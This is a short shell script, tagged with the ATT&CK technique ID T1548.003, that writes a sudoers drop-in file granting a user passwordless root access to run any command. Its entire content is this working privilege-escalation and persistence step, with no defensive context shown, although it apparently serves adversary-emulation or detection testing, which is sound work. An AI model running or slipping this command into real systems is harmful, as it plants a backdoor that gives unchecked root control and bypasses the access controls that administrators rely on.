#!/bin/sh
# T1548.003: a sudoers drop-in that lets a user run anything as root without a password.
mkdir -p /etc/sudoers.d
echo "user ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/corpus
